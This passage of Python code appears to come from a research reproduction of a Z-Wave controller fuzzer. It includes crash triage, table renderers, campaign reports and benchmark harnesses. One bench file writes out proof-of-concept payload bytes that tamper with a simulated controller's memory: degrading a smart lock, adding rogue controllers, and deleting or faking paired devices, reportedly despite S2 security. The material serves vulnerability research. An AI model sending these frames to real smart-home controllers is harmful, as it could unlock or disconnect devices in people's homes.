                current = candidate
        return current


class CrashTriage:
    """Turns a raw bug log into a ranked, deduplicated finding list."""

    def __init__(
        self,
        device: str = "D1",
        seed: int = 0,
        stability_runs: int = DEFAULT_STABILITY_RUNS,
        minimize: bool = True,
    ):
        self._device = device
        self._seed = seed
        self._stability_runs = stability_runs
        self._minimize = minimize
        self._tester = PacketTester(device=device, seed=seed)

    def triage(self, bug_log: BugLog) -> List[TriagedBug]:
        """Verify, deduplicate, stability-check and minimise a bug log."""
        occurrences: Dict[Signature, int] = {}
        representative: Dict[Signature, VerifiedFinding] = {}
        for cmdcl, cmd, observed in bug_log.coarse_groups():
            record = bug_log.first_record(cmdcl, cmd, observed)
            if record is None:
                continue
            finding = self._tester.verify_payload(record.payload)
            if finding is None:
                continue
            signature = finding.signature
            representative.setdefault(signature, finding)
            group_size = sum(
                1
                for r in bug_log
                if (r.cmdcl, r.cmd, r.observed) == (cmdcl, cmd, observed)
            )
            occurrences[signature] = occurrences.get(signature, 0) + group_size

        minimizer = PayloadMinimizer(self._device, self._seed) if self._minimize else None
        triaged: List[TriagedBug] = []
        for signature, finding in representative.items():
            stability = self._stability(finding.payload, signature)
            minimized = (
                minimizer.minimize(finding.payload) if minimizer is not None else None
            )
            triaged.append(
                TriagedBug(
                    signature=signature,
                    finding=finding,
                    occurrences=occurrences[signature],
                    stability=stability,
                    minimized_payload=minimized,
                )
            )
        triaged.sort(key=lambda t: (t.severity_rank, -t.occurrences))
        return triaged

    def _stability(self, payload: bytes, signature: Signature) -> float:
        hits = 0
        for _ in range(self._stability_runs):
            finding = self._tester.verify_payload(payload)
            if finding is not None and finding.signature == signature:
                hits += 1
        return hits / self._stability_runs


def render_triage_report(bugs: List[TriagedBug]) -> str:
    """A human-readable PoC summary for the triaged findings."""
    lines = ["Triage report", "=" * 70]
    for bug in bugs:
        matched = bug.finding.match_table3()
        label = (
            f"bug #{matched.bug_id:02d} ({matched.cve})"
            if matched and matched.cve
            else f"bug #{matched.bug_id:02d}" if matched else "unmatched"
        )
        minimized = (
            bug.minimized_payload.hex() if bug.minimized_payload else "-"
        )
        lines.append(
            f"{label:28s} CMDCL 0x{bug.finding.cmdcl:02X}  "
            f"impact {bug.finding.duration_label:8s}  "
            f"seen x{bug.occurrences:<4d} stable {bug.stability:.0%}  "
            f"PoC {minimized}"
        )
    return "\n".join(lines)
