"""Report generation: render the paper's tables from measured results.

Each ``render_*`` function takes the corresponding experiment output and
returns the table as a string whose rows mirror the paper's layout, so the
benchmark harness can print paper-shaped artifacts straight from a run.
"""

from __future__ import annotations

from typing import Dict, Iterable, List, Optional, Sequence, Tuple

from ..core.baseline import VFuzzResult
from ..core.campaign import CampaignResult, Mode
from ..core.properties import ControllerProperties
from ..obs.metrics import format_frames_per_bug
from ..simulator.testbed import PROFILES
from ..simulator.vulnerabilities import ZERO_DAYS
from ..zwave.registry import SpecRegistry


def _rule(widths: Sequence[int]) -> str:
    return "-+-".join("-" * w for w in widths)


def _row(cells: Sequence[str], widths: Sequence[int]) -> str:
    return " | ".join(str(c).ljust(w) for c, w in zip(cells, widths))


def render_table(headers: Sequence[str], rows: Iterable[Sequence[str]], title: str = "") -> str:
    """Generic fixed-width table renderer."""
    rows = [list(map(str, r)) for r in rows]
    widths = [len(h) for h in headers]
    for row in rows:
        for i, cell in enumerate(row):
            widths[i] = max(widths[i], len(cell))
    lines = []
    if title:
        lines.append(title)
    lines.append(_row(headers, widths))
    lines.append(_rule(widths))
    lines.extend(_row(row, widths) for row in rows)
    return "\n".join(lines)


# -- Table II -----------------------------------------------------------------


def render_table2() -> str:
    """The tested-device inventory."""
    rows = []
    for idx in sorted(PROFILES):
        p = PROFILES[idx]
        rows.append(
            (p.idx, p.brand, p.device_type, p.model, "Yes" if p.encryption else "No")
        )
    return render_table(
        ("IDX", "Brand name", "Device type", "Model (year)", "Encryption"),
        rows,
        "Table II: tested device details",
    )


# -- Table III ----------------------------------------------------------------


def render_table3(
    measured: Optional[Dict[int, Tuple[str, float, int]]] = None,
) -> str:
    """The zero-day table; *measured* maps bug id -> (duration label,
    discovery time, discovery packet) from a campaign."""
    rows = []
    for bug in ZERO_DAYS:
        confirmed = bug.cve if bug.cve else "confirmed"
        duration = bug.duration_label
        extra = ""
        if measured and bug.bug_id in measured:
            label, t, pkt = measured[bug.bug_id]
            duration = label
            extra = f"t={t:.0f}s pkt={pkt}"
        rows.append(
            (
                f"{bug.bug_id:02d}",
                bug.affected,
                f"0x{bug.cmdcl:02X}",
                f"0x{bug.canonical_cmd:02X}",
                bug.description,
                duration,
                bug.root_cause.value,
                confirmed,
                extra,
            )
        )
    return render_table(
        ("Bug", "Affected", "CMDCL", "CMD", "Description", "Duration", "Root cause", "Confirmed", "Measured"),
        rows,
        "Table III: zero-day vulnerability discovery results",
    )


# -- Table IV -----------------------------------------------------------------


def render_table4(results: Dict[str, ControllerProperties]) -> str:
    """Fingerprinting and unknown-property discovery per controller."""
    rows = []
    for device in sorted(results):
        props = results[device]
        rows.append(
            (
                device,
                f"{props.home_id:08X}",
                f"0x{props.controller_node_id:02X}",
                f"{props.known_count} CMDCLs",
                f"{props.unknown_count} CMDCLs",
            )
        )
    return render_table(
        ("ID", "Home ID", "Node ID", "Known CMDCLs", "Unknown CMDCLs"),
        rows,
        "Table IV: fingerprinting and unknown-property discovery",
    )


# -- Table V ------------------------------------------------------------------


def render_table5(
    vfuzz: Dict[str, VFuzzResult], zcover: Dict[str, CampaignResult]
) -> str:
    """VFuzz vs ZCover coverage and unique-vulnerability comparison."""
    rows = []
    for device in sorted(set(vfuzz) | set(zcover)):
        v = vfuzz.get(device)
        z = zcover.get(device)
        rows.append(
            (
                device,
                v.cmdcl_coverage if v else "-",
                v.cmd_coverage if v else "-",
                v.unique_vulnerabilities if v else "-",
                z.fuzz.cmdcl_coverage if z else "-",
                z.fuzz.cmd_coverage if z else "-",
                z.unique_vulnerabilities if z else "-",
            )
        )
    return render_table(
        ("ID", "VFuzz CMDCL", "VFuzz CMD", "VFuzz #Vul", "ZCover CMDCL", "ZCover CMD", "ZCover #Vul"),
        rows,
        "Table V: CMDCL coverage and unique vulnerability discovery",
    )


# -- Table VI -----------------------------------------------------------------


def render_table6(results: Dict[object, CampaignResult]) -> str:
    """The ablation study, plus any scheduler arms the run included.

    The three classic rows are keyed by :class:`Mode`; a coverage-
    scheduled arm (``run_ablation(scheduler="coverage")``) appears under
    its string key after them.  "Pkts@1st" is the fuzz-frame count at the
    first verified zero-day — the frames-to-first-bug comparison between
    schedulers.
    """
    order: List[object] = [Mode.FULL, Mode.BETA, Mode.GAMMA]
    labels = {
        Mode.FULL: "ZCover full (Known + Unknown CMDCLs + Position-Sensitive Mutation)",
        Mode.BETA: "ZCover beta (Known CMDCLs Only + Position-Sensitive Mutation)",
        Mode.GAMMA: "ZCover gamma (Random CMDCLs + No Position-Sensitive Mutation)",
    }
    for key in sorted(
        (k for k in results if not isinstance(k, Mode)), key=str
    ):
        order.append(key)
        labels[key] = (
            "ZCover full + Coverage-Guided Scheduler (repro.core.scheduler)"
            if str(key) == "coverage"
            else f"ZCover full + {key} scheduler"
        )
    rows = []
    for i, key in enumerate(order, start=1):
        result = results.get(key)
        # Efficiency comes from the shared metrics snapshot (the same
        # definition campaign_report renders), never recomputed locally.
        if result is None:
            efficiency = "-"
        elif result.metrics is None:
            efficiency = "n/a"
        else:
            efficiency = format_frames_per_bug(result.metrics)
        first = "-"
        if result is not None:
            packet = result.first_zero_day_packet
            first = "n/a" if packet is None else str(packet)
        rows.append(
            (
                i,
                labels[key],
                result.unique_vulnerabilities if result else "-",
                first,
                efficiency,
            )
        )
    return render_table(
        ("Test", "Fuzzing Configuration", "#Vul.", "Pkts@1st", "Pkts/Vul"),
        rows,
        "Table VI: ablation study on ZCover core features",
    )


# -- Figure 5 -----------------------------------------------------------------

#: The fifteen-plus-one classes the paper plots (ordered by command count).
FIGURE5_CLASS_IDS: Tuple[int, ...] = (
    0x34, 0x67, 0x63, 0x9F, 0x98, 0x7A, 0x59, 0x62,
    0x85, 0x84, 0x20, 0x5A, 0x22, 0x82, 0x88, 0x24,
)


def figure5_series(registry: SpecRegistry) -> List[Tuple[str, int]]:
    """(class name, #commands) in plotting order."""
    ranked = registry.command_distribution(FIGURE5_CLASS_IDS)
    return [(cls.name, count) for cls, count in ranked]


def render_figure5(registry: SpecRegistry) -> str:
    """An ASCII bar chart of the commands-per-class distribution."""
    series = figure5_series(registry)
    width = max(len(name) for name, _ in series)
    lines = ["Figure 5: command distribution of selected command classes"]
    for name, count in series:
        lines.append(f"{name.ljust(width)} | {'#' * count} {count}")
    return "\n".join(lines)


# -- Figure 12 ----------------------------------------------------------------


def render_figure12(result: CampaignResult, horizon: float = 800.0) -> str:
    """Packets-over-time with unique-discovery marks for one device."""
    lines = [
        f"Figure 12 ({result.device}): packets vs time, X = unique discovery",
        "time(s)  packets  events",
    ]
    marks = {
        int(t): bug_id for t, _, bug_id in result.discovery_timeline() if t <= horizon
    }
    for point in result.fuzz.timeline:
        if point.timestamp > horizon:
            break
        lines.append(f"{point.timestamp:7.1f}  {point.packets:7d}")
    for t, pkt, bug_id in result.discovery_timeline():
        if t <= horizon:
            lines.append(f"{t:7.1f}  {pkt:7d}  X bug#{bug_id}")
    return "\n".join(lines)
