"""Campaign summary reports: one markdown document per trial.

``zcover fuzz`` shows the raw numbers; this module turns a finished
:class:`CampaignResult` into the report an analyst would file — target
profile, fingerprinting outcome, coverage, the verified finding list with
CVEs and PoC coordinates, and the discovery timeline.
"""

from __future__ import annotations

from typing import List

from ..core.campaign import CampaignResult
from ..obs.metrics import format_frames_per_bug
from ..simulator.testbed import PROFILES


def campaign_report(result: CampaignResult) -> str:
    """Render *result* as a markdown report."""
    profile = PROFILES.get(result.device)
    lines: List[str] = []
    title = f"ZCover campaign report — {result.device}"
    if profile is not None:
        title += f" ({profile.brand} {profile.model})"
    lines += [f"# {title}", ""]

    lines += ["## Configuration", ""]
    lines.append(f"- mode: {result.mode.value}")
    lines.append(f"- duration: {result.duration / 3600:.2f} simulated hours")
    lines.append(f"- packets sent: {result.fuzz.packets_sent}")
    lines.append(
        f"- coverage: {result.fuzz.cmdcl_coverage} CMDCLs / "
        f"{result.fuzz.cmd_coverage} CMDs"
    )
    if result.metrics is not None:
        # Shared definition with render_table6 (repro.obs.metrics), so the
        # report and the ablation table can never disagree on efficiency.
        lines.append(
            f"- frames per unique bug: {format_frames_per_bug(result.metrics)}"
        )
    lines.append("")

    props = result.properties
    if props is not None:
        lines += ["## Target fingerprint", ""]
        lines.append(f"- home id: `{props.home_id:08X}`")
        lines.append(f"- controller node id: `0x{props.controller_node_id:02X}`")
        lines.append(f"- NIF-listed command classes: {props.known_count}")
        if props.unknown_count:
            lines.append(
                f"- hidden command classes discovered: {props.unknown_count} "
                f"(proprietary: {', '.join(hex(c) for c in props.proprietary)})"
            )
        lines.append("")

    lines += ["## Verified findings", ""]
    if not result.unique:
        lines.append("No vulnerabilities confirmed.")
    else:
        lines.append("| # | CMDCL | impact | CVE | discovered | PoC payload |")
        lines.append("|---|---|---|---|---|---|")
        ordered = sorted(
            result.unique.values(), key=lambda u: u.first_detection_time
        )
        for unique in ordered:
            bug = unique.bug
            bug_label = f"{bug.bug_id:02d}" if bug else "?"
            cve = bug.cve if bug and bug.cve else "confirmed"
            lines.append(
                f"| {bug_label} | 0x{unique.finding.cmdcl:02X} "
                f"| {unique.finding.duration_label} "
                f"| {cve} "
                f"| t={unique.first_detection_time:.0f}s, "
                f"pkt {unique.first_detection_packet} "
                f"| `{unique.finding.payload_hex}` |"
            )
    lines.append("")

    lines += ["## Discovery timeline", ""]
    for t, packet, bug_id in result.discovery_timeline():
        label = f"bug #{bug_id:02d}" if bug_id is not None else "unmatched"
        lines.append(f"- t={t:8.1f}s  packet {packet:6d}  {label}")
    lines.append("")
    lines.append(
        f"_Detections including duplicates: {len(result.fuzz.detections)}; "
        f"unique after PoC verification: {result.unique_vulnerabilities}._"
    )
    return "\n".join(lines)
