"""Figures 8-11 — the controller memory-tampering proof-of-concept attacks.

Each bench replays the corresponding attack payload against a pristine
controller and prints the node table before and after, mirroring the
paper's PC-Controller-program screenshots:

* Figure 8  — degrade the smart lock's record to a routing slave (bug #01);
* Figure 9  — insert rogue controllers with IDs 10 and 200 (bug #02);
* Figure 10 — remove the paired devices (bug #03);
* Figure 11 — overwrite the device table with fakes (bug #04).
"""

from repro.simulator.memory import NodeTable
from repro.simulator.testbed import LOCK_NODE_ID, SWITCH_NODE_ID, build_sut
from repro.zwave.frame import ZWaveFrame

from conftest import BENCH_SEED


def _attack(payload):
    sut = build_sut("D1", seed=BENCH_SEED, traffic=False)
    before = sut.controller.nvm.snapshot()
    frame = ZWaveFrame(
        home_id=sut.profile.home_id, src=0x0F, dst=1, payload=payload
    )
    sut.dongle.inject(frame)
    sut.clock.advance(0.1)
    after = sut.controller.nvm.snapshot()
    return sut, before, after


def _show(label, before, after):
    print(f"\n{label}")
    print("  before:", [(r.node_id, r.basic, r.name) for r in before])
    print("  after :", [(r.node_id, r.basic, r.name) for r in after])
    for change in NodeTable.diff(before, after):
        print("  *", change.describe())


def bench_fig8_modify_lock_record(benchmark):
    sut, before, after = benchmark.pedantic(
        lambda: _attack(bytes([0x01, 0x0D, LOCK_NODE_ID, 0x01, 0x00, 0x10])),
        rounds=1, iterations=1,
    )
    _show("Figure 8: smart lock degraded to routing slave", before, after)
    record = sut.controller.nvm.get(LOCK_NODE_ID)
    assert record.basic == 0x04 and not record.secure


def bench_fig9_insert_rogue_controllers(benchmark):
    def attack():
        sut = build_sut("D1", seed=BENCH_SEED, traffic=False)
        before = sut.controller.nvm.snapshot()
        for rogue_id in (10, 200):  # the paper inserts IDs #10 and #200
            frame = ZWaveFrame(
                home_id=sut.profile.home_id, src=0x0F, dst=1,
                payload=bytes([0x01, 0x0D, rogue_id, 0x02]),
            )
            sut.dongle.inject(frame)
            sut.clock.advance(0.1)
        return sut, before, sut.controller.nvm.snapshot()

    sut, before, after = benchmark.pedantic(attack, rounds=1, iterations=1)
    _show("Figure 9: rogue controllers #10 and #200 inserted", before, after)
    assert sut.controller.nvm.get(10).is_controller
    assert sut.controller.nvm.get(200).is_controller


def bench_fig10_remove_devices(benchmark):
    def attack():
        sut = build_sut("D1", seed=BENCH_SEED, traffic=False)
        before = sut.controller.nvm.snapshot()
        for node_id in (LOCK_NODE_ID, SWITCH_NODE_ID):
            frame = ZWaveFrame(
                home_id=sut.profile.home_id, src=0x0F, dst=1,
                payload=bytes([0x01, 0x0D, node_id, 0x03]),
            )
            sut.dongle.inject(frame)
            sut.clock.advance(0.1)
        return sut, before, sut.controller.nvm.snapshot()

    sut, before, after = benchmark.pedantic(attack, rounds=1, iterations=1)
    _show("Figure 10: paired devices removed from memory", before, after)
    assert len(sut.controller.nvm) == 0


def bench_fig11_overwrite_database(benchmark):
    sut, before, after = benchmark.pedantic(
        lambda: _attack(bytes([0x01, 0x0D, 0x01, 0x04, 0x00, 0x10])),
        rounds=1, iterations=1,
    )
    _show("Figure 11: device table overwritten with fakes", before, after)
    assert sut.controller.nvm.node_ids() == (10, 20, 30, 200)
    assert LOCK_NODE_ID not in sut.controller.nvm


def bench_memory_attacks_survive_s2(benchmark):
    """The headline finding: the attacks land although the lock pairs S2."""
    def attack():
        return _attack(bytes([0x01, 0x0D, LOCK_NODE_ID, 0x03]))

    sut, before, after = benchmark.pedantic(attack, rounds=1, iterations=1)
    lock_before = next(r for r in before if r.node_id == LOCK_NODE_ID)
    assert lock_before.secure and lock_before.granted_keys  # paired with S2
    assert LOCK_NODE_ID not in sut.controller.nvm  # ...and gone regardless
