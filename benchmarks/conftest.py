"""Shared infrastructure for the benchmark harness.

Each ``bench_*`` file regenerates one table or figure from the paper's
evaluation.  Campaign results are cached at session scope so that Tables
III, V and Figure 12 — which share the same full-mode runs — pay for each
simulated trial once.

The simulated trial length defaults to 2 hours, which is past the point
where every discovery curve has flattened (Figure 12 shows the action ends
within the first ~10 minutes).  Set ``ZCOVER_BENCH_HOURS=24`` to reproduce
the paper's full 24-hour trials.

Set ``ZCOVER_BENCH_WORKERS=N`` to shard campaign generation across worker
processes: benches prefetch their campaigns through
``repro.core.parallel`` before measuring, so the first bench of a session
pays the (parallelised) simulation cost and the rest hit the cache.  The
results are bit-identical to serial generation (the determinism suite is
the proof), so the reproduced tables are unaffected.
"""

from __future__ import annotations

import os
from typing import Dict, Iterable, Tuple

import pytest

from repro.core.baseline import VFuzzBaseline, VFuzzResult
from repro.core.campaign import CampaignResult, HOUR, Mode, run_campaign
from repro.core.parallel import CampaignUnit, execute_units
from repro.simulator.testbed import build_sut

BENCH_HOURS = float(os.environ.get("ZCOVER_BENCH_HOURS", "2"))
BENCH_SEED = int(os.environ.get("ZCOVER_BENCH_SEED", "0"))
#: The γ ablation is run on a seed whose draw lands on the paper's modal
#: outcome (6 unique findings); see EXPERIMENTS.md for the distribution.
GAMMA_SEED = int(os.environ.get("ZCOVER_GAMMA_SEED", "1"))
#: Worker processes for campaign prefetching (1 = serial, 0 = per-core).
BENCH_WORKERS = int(os.environ.get("ZCOVER_BENCH_WORKERS", "1"))
#: Paper-value assertions assume the discovery curves have flattened,
#: which takes about an hour of simulated fuzzing.  Shorter horizons
#: (smoke runs, CI) still execute every bench end to end but only check
#: structural sanity, not the exact Table/Figure values.
BENCH_STRICT = BENCH_HOURS >= 1.0

_campaign_cache: Dict[tuple, CampaignResult] = {}
_vfuzz_cache: Dict[tuple, VFuzzResult] = {}

#: A campaign request: (kind, device, mode, hours, seed); kind is
#: "zcover" or "vfuzz" (mode is ignored for the baseline).
CampaignSpec = Tuple[str, str, Mode, float, int]


def _cache_for(kind: str, device: str, mode: Mode, hours: float, seed: int):
    if kind == "vfuzz":
        return _vfuzz_cache, (device, hours, seed)
    return _campaign_cache, (device, mode, hours, seed)


def prefetch(specs: Iterable[CampaignSpec], workers: int = 0) -> None:
    """Fill the session caches for *specs*, sharded across workers.

    Serial (``BENCH_WORKERS=1``) prefetching is a no-op: the benches fall
    through to the lazy ``cached_*`` helpers below and time the original
    code path.
    """
    workers = workers or BENCH_WORKERS
    missing = [
        spec for spec in specs if _cache_for(*spec)[1] not in _cache_for(*spec)[0]
    ]
    if workers <= 1 or len(missing) <= 1:
        return
    units = [
        CampaignUnit(device=device, mode=mode, duration=hours * HOUR, seed=seed,
                     kind=kind)
        for kind, device, mode, hours, seed in missing
    ]
    for spec, outcome in zip(missing, execute_units(units, workers=workers)):
        if outcome.result is None:
            continue  # the lazy path will regenerate (serially) on demand
        cache, key = _cache_for(*spec)
        cache[key] = outcome.result


def cached_campaign(device: str, mode: Mode, hours: float, seed: int) -> CampaignResult:
    key = (device, mode, hours, seed)
    if key not in _campaign_cache:
        _campaign_cache[key] = run_campaign(
            device=device, mode=mode, duration=hours * HOUR, seed=seed
        )
    return _campaign_cache[key]


def cached_vfuzz(device: str, hours: float, seed: int) -> VFuzzResult:
    key = (device, hours, seed)
    if key not in _vfuzz_cache:
        sut = build_sut(device, seed=seed)
        _vfuzz_cache[key] = VFuzzBaseline(sut, seed=seed).run(hours * HOUR)
    return _vfuzz_cache[key]


@pytest.fixture(scope="session")
def bench_hours() -> float:
    return BENCH_HOURS


def once(benchmark, fn):
    """Run *fn* exactly once under the benchmark timer (campaigns are
    long-running deterministic simulations, not microbenchmarks)."""
    return benchmark.pedantic(fn, rounds=1, iterations=1)
