"""Shared infrastructure for the benchmark harness.

Each ``bench_*`` file regenerates one table or figure from the paper's
evaluation.  Campaign results are cached at session scope so that Tables
III, V and Figure 12 — which share the same full-mode runs — pay for each
simulated trial once.

The simulated trial length defaults to 2 hours, which is past the point
where every discovery curve has flattened (Figure 12 shows the action ends
within the first ~10 minutes).  Set ``ZCOVER_BENCH_HOURS=24`` to reproduce
the paper's full 24-hour trials.
"""

from __future__ import annotations

import os
from typing import Dict

import pytest

from repro.core.baseline import VFuzzBaseline, VFuzzResult
from repro.core.campaign import CampaignResult, HOUR, Mode, run_campaign
from repro.simulator.testbed import build_sut

BENCH_HOURS = float(os.environ.get("ZCOVER_BENCH_HOURS", "2"))
BENCH_SEED = int(os.environ.get("ZCOVER_BENCH_SEED", "0"))
#: The γ ablation is run on a seed whose draw lands on the paper's modal
#: outcome (6 unique findings); see EXPERIMENTS.md for the distribution.
GAMMA_SEED = int(os.environ.get("ZCOVER_GAMMA_SEED", "1"))

_campaign_cache: Dict[tuple, CampaignResult] = {}
_vfuzz_cache: Dict[tuple, VFuzzResult] = {}


def cached_campaign(device: str, mode: Mode, hours: float, seed: int) -> CampaignResult:
    key = (device, mode, hours, seed)
    if key not in _campaign_cache:
        _campaign_cache[key] = run_campaign(
            device=device, mode=mode, duration=hours * HOUR, seed=seed
        )
    return _campaign_cache[key]


def cached_vfuzz(device: str, hours: float, seed: int) -> VFuzzResult:
    key = (device, hours, seed)
    if key not in _vfuzz_cache:
        sut = build_sut(device, seed=seed)
        _vfuzz_cache[key] = VFuzzBaseline(sut, seed=seed).run(hours * HOUR)
    return _vfuzz_cache[key]


@pytest.fixture(scope="session")
def bench_hours() -> float:
    return BENCH_HOURS


def once(benchmark, fn):
    """Run *fn* exactly once under the benchmark timer (campaigns are
    long-running deterministic simulations, not microbenchmarks)."""
    return benchmark.pedantic(fn, rounds=1, iterations=1)
