"""Table V — ZCover vs the VFuzz baseline on D1-D5.

Both fuzzers run against the same simulated testbed for the benchmark
horizon.  The shape that must hold (Section IV-C): ZCover covers exactly
its 45 prioritised CMDCLs / 53 CMDs and finds all fifteen zero-days on
every controller; VFuzz covers the whole 256x256 space but lands only its
MAC-layer one-days (1/3/0/4/0), with zero overlap between the two sets.
"""

from repro.analysis.report import render_table5
from repro.core.campaign import Mode

from conftest import (
    BENCH_HOURS,
    BENCH_SEED,
    BENCH_STRICT,
    cached_campaign,
    cached_vfuzz,
    once,
    prefetch,
)

DEVICES = ("D1", "D2", "D3", "D4", "D5")
VFUZZ_EXPECTED = {"D1": 1, "D2": 3, "D3": 0, "D4": 4, "D5": 0}


def bench_table5_comparison(benchmark):
    def run_all():
        # With ZCOVER_BENCH_WORKERS>1 the ten campaigns (five devices x
        # both fuzzers) generate in parallel; the timed call then measures
        # the sharded wall clock instead of the serial sum.
        prefetch(
            [("vfuzz", d, Mode.FULL, BENCH_HOURS, BENCH_SEED) for d in DEVICES]
            + [("zcover", d, Mode.FULL, BENCH_HOURS, BENCH_SEED) for d in DEVICES]
        )
        vfuzz = {d: cached_vfuzz(d, BENCH_HOURS, BENCH_SEED) for d in DEVICES}
        zcover = {
            d: cached_campaign(d, Mode.FULL, BENCH_HOURS, BENCH_SEED) for d in DEVICES
        }
        return vfuzz, zcover

    vfuzz, zcover = once(benchmark, run_all)
    print("\n" + render_table5(vfuzz, zcover))

    for device in DEVICES:
        v, z = vfuzz[device], zcover[device]
        if BENCH_STRICT:
            assert v.cmdcl_coverage == 256 and v.cmd_coverage == 256
            assert v.unique_vulnerabilities == VFUZZ_EXPECTED[device], device
            assert z.fuzz.cmdcl_coverage == 45 and z.fuzz.cmd_coverage == 53
            assert z.unique_vulnerabilities == 15, device
        else:
            assert v.cmdcl_coverage > 0 and z.fuzz.cmdcl_coverage <= 45
        # No vulnerabilities found in common (Section IV-C).
        assert v.zero_day_payloads == []


def bench_vfuzz_rejection_rate(benchmark):
    """The paper's mechanism: most VFuzz packets fail the MAC checks."""
    result = once(benchmark, lambda: cached_vfuzz("D3", BENCH_HOURS, BENCH_SEED))
    rejection = 1.0 - result.accepted_estimate / max(result.packets_sent, 1)
    print(f"\n[measured] VFuzz D3: {result.packets_sent} packets, "
          f"{rejection:.1%} rejected by MAC filters")
    assert rejection > 0.99
