"""Ablation benches for the design choices DESIGN.md calls out.

Beyond the paper's own Table VI, these benches quantify the individual
design decisions of the reproduction:

1. **CMDCL prioritisation by command count** (DESIGN.md decision 2) —
   compare time-to-first-N discoveries under priority vs ascending vs
   reversed queue ordering;
2. **C_T window sizing** (Algorithm 1's input) — sweep the per-class
   window and measure unique findings in a fixed budget;
3. **novelty-gated window renewal** (DESIGN.md decision on Algorithm 1's
   line 14) — without it, the first duplicate-rich class starves the
   queue;
4. **liveness-ping cadence** — the oracle's detection latency vs
   throughput trade-off.
"""

from repro.core.campaign import Mode, run_campaign
from repro.core.fuzzer import FuzzerConfig

from conftest import BENCH_SEED, once

BUDGET = 1800.0  # 30 simulated minutes per configuration


def _discoveries_by(result, horizon):
    return sum(1 for t, _, _ in result.discovery_timeline() if t <= horizon)


def bench_ablation_queue_priority(benchmark):
    def run_all():
        return {
            strategy: run_campaign(
                "D1", Mode.FULL, duration=BUDGET, seed=BENCH_SEED,
                queue_strategy=strategy,
            )
            for strategy in ("priority", "ascending", "reversed")
        }

    results = once(benchmark, run_all)
    print("\nqueue ordering ablation (30 simulated minutes):")
    for strategy, result in results.items():
        early = _discoveries_by(result, 600.0)
        print(
            f"  {strategy:9s}: {result.unique_vulnerabilities:2d} unique, "
            f"{early:2d} within 600 s"
        )
    # The paper's intuition: command-count priority front-loads discovery.
    assert _discoveries_by(results["priority"], 600.0) >= _discoveries_by(
        results["ascending"], 600.0
    )
    assert (
        results["priority"].unique_vulnerabilities
        >= results["reversed"].unique_vulnerabilities
    )


def bench_ablation_ct_window(benchmark):
    def run_all():
        outcomes = {}
        for window in (15.0, 60.0, 240.0):
            config = FuzzerConfig(cmdcl_time=window)
            outcomes[window] = run_campaign(
                "D1", Mode.FULL, duration=BUDGET, seed=BENCH_SEED,
                fuzzer_config=config,
            )
        return outcomes

    results = once(benchmark, run_all)
    print("\nC_T window ablation (30 simulated minutes):")
    for window, result in sorted(results.items()):
        print(
            f"  C_T={window:5.0f}s: {result.unique_vulnerabilities:2d} unique, "
            f"{result.fuzz.windows_completed:3d} windows completed"
        )
    # Tiny windows abandon classes before deep payload shapes are reached;
    # huge windows starve the queue tail.  The default sits in between.
    assert results[60.0].unique_vulnerabilities >= results[240.0].unique_vulnerabilities
    assert results[60.0].unique_vulnerabilities >= results[15.0].unique_vulnerabilities


def bench_ablation_ping_cadence(benchmark):
    def run_all():
        outcomes = {}
        for timeout in (0.2, 0.5, 1.5):
            config = FuzzerConfig(ping_timeout=timeout)
            outcomes[timeout] = run_campaign(
                "D1", Mode.FULL, duration=BUDGET, seed=BENCH_SEED,
                fuzzer_config=config,
            )
        return outcomes

    results = once(benchmark, run_all)
    print("\nliveness ping-timeout ablation (30 simulated minutes):")
    for timeout, result in sorted(results.items()):
        print(
            f"  timeout={timeout:3.1f}s: {result.fuzz.packets_sent:5d} packets, "
            f"{result.unique_vulnerabilities:2d} unique"
        )
    # Longer ping timeouts cost throughput (each test waits on the ping)
    # without finding more: the oracle is binary, not latency-sensitive.
    assert results[0.2].fuzz.packets_sent >= results[1.5].fuzz.packets_sent
    assert results[0.5].unique_vulnerabilities >= results[1.5].unique_vulnerabilities
