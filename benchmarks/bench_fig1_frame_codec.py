"""Figure 1 — the Z-Wave frame layout, exercised as codec throughput.

Microbenchmarks for the substrate hot paths: MAC frame encode/decode, the
PHY bitstream codec, and AES block encryption.
"""

from repro.radio.signal import decode_phy, encode_phy
from repro.security.aes import AES128
from repro.zwave.frame import ZWaveFrame

FRAME = ZWaveFrame(
    home_id=0xE7DE3F3D, src=0x0F, dst=0x01, payload=b"\x62\x01\xff\x00", sequence=7
)
RAW = FRAME.encode()


def bench_frame_encode(benchmark):
    raw = benchmark(FRAME.encode)
    assert raw[7] == len(raw)  # LEN field (Figure 1)


def bench_frame_decode(benchmark):
    frame = benchmark(lambda: ZWaveFrame.decode(RAW))
    assert frame.cmdcl == 0x62


def bench_frame_roundtrip(benchmark):
    def roundtrip():
        return ZWaveFrame.decode(FRAME.encode())

    assert benchmark(roundtrip).payload == FRAME.payload


def bench_phy_encode_r3(benchmark):
    bits = benchmark(lambda: encode_phy(RAW, 100.0))
    assert len(bits) > len(RAW) * 8


def bench_phy_roundtrip_r1_manchester(benchmark):
    def roundtrip():
        return decode_phy(encode_phy(RAW, 9.6), 9.6)

    assert benchmark(roundtrip) == RAW


def bench_aes_block(benchmark):
    cipher = AES128(b"\x00" * 16)
    block = b"\x11" * 16
    out = benchmark(lambda: cipher.encrypt_block(block))
    assert len(out) == 16


def bench_engine_throughput(benchmark):
    """Wall-clock cost of 1000 simulated test packets (send + oracles)."""
    import random

    from repro.core.fuzzer import FuzzerConfig, FuzzingEngine, psm_streams
    from repro.core.mutation import PositionSensitiveMutator
    from repro.simulator.testbed import build_sut
    from repro.zwave.registry import load_full_registry

    def thousand_packets():
        sut = build_sut("D1", seed=5, traffic=False)
        engine = FuzzingEngine(sut, FuzzerConfig())
        mutator = PositionSensitiveMutator(load_full_registry(), random.Random(5))
        # 750 simulated seconds at 0.75 s/packet ≈ 1000 packets.
        return engine.run(psm_streams([0x20, 0x25, 0x26, 0x70], mutator, 300.0, True), 750.0)

    result = benchmark.pedantic(thousand_packets, rounds=1, iterations=1)
    assert result.packets_sent >= 900
