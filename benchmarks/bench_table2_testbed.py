"""Table II — the tested-device inventory and SUT construction cost.

Regenerates the device table and measures how quickly a full system under
test (controller + slaves + host + radio) assembles.
"""

from repro.analysis.report import render_table2
from repro.simulator.testbed import CONTROLLER_IDS, PROFILES, build_sut


def bench_table2_inventory(benchmark):
    table = benchmark(render_table2)
    print("\n" + table)
    assert table.count("Controller") == 7
    assert "Door Lock" in table and "Smart Switch" in table


def bench_sut_construction(benchmark):
    sut = benchmark(lambda: build_sut("D1", seed=0))
    assert len(sut.controller.nvm) == 2
    assert sut.dongle.configured


def bench_all_seven_controllers_buildable(benchmark):
    def build_all():
        return [build_sut(device, seed=0) for device in CONTROLLER_IDS]

